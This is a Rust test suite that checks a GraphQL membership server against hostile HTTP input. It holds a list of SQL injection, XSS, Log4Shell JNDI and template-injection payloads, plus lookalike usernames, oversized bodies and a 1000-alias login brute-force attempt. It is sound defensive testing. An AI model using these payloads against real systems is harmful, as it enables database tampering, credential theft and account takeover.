//! Hostile input through HTTP: injection payloads, lookalike usernames, huge
//! and broken requests, foreign ids. Each gets a contract answer, the server
//! stays up, and nothing changes that should not.

use serde_json::{Value, json};

use crate::helpers::{PASSWORD, TestApp, group_id, snapshot, user_id};
use memberdesk::store::users::UserRow;

/// Payloads that break naive SQL string building or HTML rendering.
const PAYLOADS: &[&str] = &[
    "'; DROP TABLE users; --",
    "Robert'); DELETE FROM votes; --",
    "\" OR 1=1 --",
    "' UNION SELECT password_hash FROM users --",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "${jndi:ldap://example.org/a}",
    "{{7*7}} %s %n \\x00 $1",
];

async fn server_is_up(app: &TestApp) {
    let health = app
        .get("/healthz")
        .send()
        .await
        .expect("server still answers");
    assert_eq!(health.status(), 200);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn injection_payloads_are_stored_verbatim_and_never_executed() {
    let app = TestApp::spawn().await;
    let (_, token) = app.superuser("root").await;
    for (n, payload) in PAYLOADS.iter().enumerate() {
        let input = json!({
            "username": format!("victim{n}"),
            "email": format!("victim{n}@example.org"),
            "password": PASSWORD,
            "firstName": payload,
            "lastName": payload,
        });
        let user = app
            .create_user(&token, input)
            .select("id firstName lastName")
            .ok()
            .await;
        assert_eq!(user["firstName"], *payload);
        assert_eq!(user["lastName"], *payload);

        let group = app.create_group(&token, payload, &[]).ok().await;
        assert_eq!(group["name"], *payload);

        let question = app
            .create_question(&token, payload, &[payload, "plain"])
            .ok()
            .await;
        assert_eq!(question["text"], *payload);
        assert_eq!(question["choices"][0]["text"], *payload);

        let deactivated = app
            .deactivate(&token, user["id"].as_str().unwrap())
            .input(json!({ "reason": payload }))
            .select("user { isActive }")
            .ok()
            .await;
        assert_eq!(deactivated["user"]["isActive"], false);

        // As a search term and a username lookup the payload is just text.
        let found = app
            .ok(
                Some(&token),
                "query($s: String!) { users(filter: { search: $s }) { edges { node { firstName } } } user(username: $s) { id } }",
                json!({ "s": payload }),
            )
            .await;
        let edges = found["users"]["edges"].as_array().unwrap();
        assert_eq!(edges.len(), 1, "{payload}: {found}");
        assert_eq!(edges[0]["node"]["firstName"], *payload);
        assert_eq!(found["user"], Value::Null);
    }

    // Stored byte for byte, and every table and row is still there.
    let stored: Vec<(String, String)> = sqlx::query_as(
        "SELECT u.first_name, u.deactivation_reason FROM users u WHERE NOT u.is_active ORDER BY u.id",
    )
    .fetch_all(app.pool())
    .await
    .unwrap();
    let expected: Vec<(String, String)> = PAYLOADS
        .iter()
        .map(|p| (p.to_string(), p.to_string()))
        .collect();
    assert_eq!(stored, expected);
    assert_eq!(
        app.count("SELECT count(*) FROM users").await,
        1 + PAYLOADS.len() as i64
    );
    assert_eq!(
        app.count("SELECT count(*) FROM groups").await,
        PAYLOADS.len() as i64
    );
    assert_eq!(
        app.audit_count("USER_DEACTIVATED").await,
        PAYLOADS.len() as i64
    );
    server_is_up(&app).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn lookalikes_of_an_existing_username_are_one_username() {
    let app = TestApp::spawn().await;
    let (root, token) = app.superuser("root").await;
    let admin = app.user("admin", true, false).await;
    let before = snapshot(app.pool()).await;
    for (n, lookalike) in [
        "Admin",
        "ADMIN",
        "ＡＤＭＩＮ",
        "ａｄｍｉｎ",
        "ad\u{200B}min",
        "admin\u{0}",
        " admin",
    ]
    .iter()
    .enumerate()
    {
        let input = json!({ "username": lookalike, "email": format!("l{n}@example.org"), "password": PASSWORD });
        let refusal = app.create_user(&token, input).error().await;
        assert_eq!(
            refusal.code_and_field(),
            ("INVALID_INPUT", "username"),
            "{lookalike:?}"
        );
        // Renaming someone else to a lookalike is refused the same way.
        let rename = app.update_user(&token, &user_id(&root), json!({ "username": lookalike }));
        assert_eq!(rename.err_code().await, "INVALID_INPUT", "{lookalike:?}");
    }
    assert_eq!(
        snapshot(app.pool()).await,
        before,
        "a lookalike changed something"
    );

    // Width and case variants look up and log in the one account.
    for variant in ["ADMIN", "ＡＤＭＩＮ"] {
        let found = app
            .ok(
                Some(&token),
                "query($u: String!) { user(username: $u) { id } }",
                json!({ "u": variant }),
            )
            .await;
        assert_eq!(found["user"]["id"], user_id(&admin), "{variant}");
        let session = app.login(variant, PASSWORD).await;
        let me = app
            .ok(Some(&session), "{ me { id username } }", json!({}))
            .await;
        assert_eq!(me["me"]["id"], user_id(&admin));
        assert_eq!(me["me"]["username"], "admin");
    }
    server_is_up(&app).await;
}

/// A superuser and a member, on a server about to get hostile input.
struct Target {
    app: TestApp,
    root: UserRow,
    token: String,
    member: String,
    before: Value,
}

async fn target() -> Target {
    let app = TestApp::spawn().await;
    let (root, token) = app.superuser("root").await;
    let member = user_id(&app.user("member", false, false).await);
    let before = snapshot(app.pool()).await;
    Target {
        app,
        root,
        token,
        member,
        before,
    }
}

impl Target {
    /// Nothing changed, the superuser is still who they were and the
    /// server still serves.
    async fn assert_unharmed(&self) {
        let app = &self.app;
        assert_eq!(
            snapshot(app.pool()).await,
            self.before,
            "hostile input changed something"
        );
        let me = app
            .ok(Some(&self.token), "{ me { id isSuperuser } }", json!({}))
            .await;
        assert_eq!(me["me"]["id"], user_id(&self.root));
        server_is_up(app).await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_huge_string_is_refused_without_being_echoed() {
    let t = target().await;
    let app = &t.app;
    // A 200 KB string: under the body limit, over every field's limit.
    let huge = "x".repeat(200 * 1024);
    let resp = app
        .update_user(&t.token, &t.member, json!({ "firstName": huge }))
        .send()
        .await;
    let text = resp.to_string();
    assert_eq!(
        resp["errors"][0]["extensions"]["code"],
        "INVALID_INPUT",
        "{}",
        &text[..text.len().min(200)]
    );
    assert!(text.len() < 2_000, "the error must not echo the input back");
    let refusal = app
        .deactivate(&t.token, &t.member)
        .input(json!({ "reason": huge }))
        .error()
        .await;
    assert_eq!(refusal.code_and_field(), ("INVALID_INPUT", "reason"));
    t.assert_unharmed().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn deeply_nested_or_non_utf8_bodies_are_400() {
    let t = target().await;
    let app = &t.app;
    // Variables nested far deeper than any input: refused before execution.
    let nested = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
    let body = format!(r#"{{"query":"{{ me {{ id }} }}","variables":{{"x":{nested}}}}}"#);
    let json_post = || {
        app.post("/graphql")
            .header("content-type", "application/json")
    };
    let resp = json_post().bearer_auth(&t.token).body(body).send().await;
    assert_eq!(resp.unwrap().status(), 400);
    // Bytes that are not UTF-8.
    let resp = json_post().body(vec![b'{', 0xff, 0xfe, b'}']).send().await;
    assert_eq!(resp.unwrap().status(), 400);
    t.assert_unharmed().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn garbage_foreign_and_missing_ids_and_cursors_are_contract_errors() {
    let t = target().await;
    let app = &t.app;
    let token = t.token.as_str();
    // Ids: garbage, another kind's id, an id naming nothing, a bad cursor.
    let foreign = group_id(1);
    let nowhere = memberdesk::ids::encode(memberdesk::ids::Kind::User, i64::MAX);
    for id in [
        "",
        "%%%",
        "VXNlcjox\u{0}",
        "' OR 1=1 --",
        foreign.as_str(),
        nowhere.as_str(),
    ] {
        let user = "query($id: ID!) { user(id: $id) { id } }";
        let lookup = app.err_code(Some(token), user, json!({ "id": id })).await;
        let codes = [
            lookup,
            app.deactivate(token, id).err_code().await,
            app.delete_user(token, id)
                .policy("CASCADE")
                .err_code()
                .await,
            app.anonymize(token, id).err_code().await,
            app.deletion_plan(token, id).err_code().await,
        ];
        let operations = [
            "user",
            "deactivateUser",
            "deleteUser",
            "anonymizeUser",
            "deletionPlan",
        ];
        for (operation, code) in operations.iter().zip(codes) {
            assert!(
                code == "NOT_FOUND" || code == "INVALID_INPUT",
                "{operation} with {id:?}: {code}"
            );
        }
    }
    let users = "query($a: String) { users(first: 5, after: $a) { edges { cursor } } }";
    for cursor in ["garbage", "", "\u{0}", "YXJyYXljb25uZWN0aW9uOjA="] {
        let code = app
            .err_code(Some(token), users, json!({ "a": cursor }))
            .await;
        assert_eq!(code, "INVALID_INPUT", "cursor {cursor:?}");
    }
    let code = app
        .err_code(
            Some(token),
            "{ users(first: -1) { edges { cursor } } }",
            json!({}),
        )
        .await;
    assert_eq!(code, "INVALID_INPUT");
    t.assert_unharmed().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_thousand_aliased_logins_are_not_a_thousand_guesses() {
    let app = TestApp::spawn().await;
    app.user("rani", false, false).await;
    let aliases: String = (0..1000)
        .map(|i| format!("a{i}: login(username: \"rani\", password: \"guess {i}\") {{ token }} "))
        .collect();
    let resp = app
        .gql(None, &format!("mutation {{ {aliases} }}"), json!({}))
        .await;
    // A request may hash at most one password, so the whole request is
    // refused before it runs (this test used to accept either that or each
    // alias being counted against the failed-login limit).
    assert_eq!(
        resp["errors"].as_array().expect("errors").len(),
        1,
        "{resp:#}"
    );
    assert_eq!(resp["errors"][0]["extensions"]["code"], "INVALID_INPUT");
    let message = resp["errors"][0]["message"].as_str().unwrap();
    assert!(message.contains("hashes a password"), "{message}");
    assert!(resp.get("data").is_none(), "never executed: {resp:#}");
    assert_eq!(app.count("SELECT count(*) FROM login_failures").await, 0);
    assert_eq!(app.count("SELECT count(*) FROM sessions").await, 0);
    assert_eq!(app.audit_count("LOGIN_FAILED").await, 0);
    server_is_up(&app).await;
}
